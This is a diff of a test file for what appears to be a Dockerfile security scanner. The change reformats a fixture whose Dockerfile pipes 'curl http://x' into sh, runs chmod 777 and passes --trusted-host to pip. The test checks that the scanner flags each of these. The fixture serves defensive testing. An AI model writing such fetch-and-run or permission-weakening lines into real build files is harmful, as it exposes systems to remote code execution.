@@ -150,7 +150,9 @@ describe('hostile repositories: leaks and gates', function () {
 
   it('a 150,000-line heredoc before curl|sh, chmod 777 and --trusted-host: every finding, no internal error', () => {
     const dir = makeTree({
-      Dockerfile: `FROM a:1\nUSER 1000\nRUN <<EOF\n${'echo hi\n'.repeat(150_000)}EOF\nRUN curl http://x | sh && chmod 777 /x && pip install --trusted-host x y\n`,
+      Dockerfile:
+        `FROM a:1\nUSER 1000\nRUN <<EOF\n${'echo hi\n'.repeat(150_000)}EOF\nRUN curl http://x | sh && chmod 777 /x ` +
+        `&& pip install --trusted-host x y\n`,
     });
     const r = runCli(['--format', 'json', '--fail-on', 'warning', '.'], dir);
     assert.equal(r.code, 1);
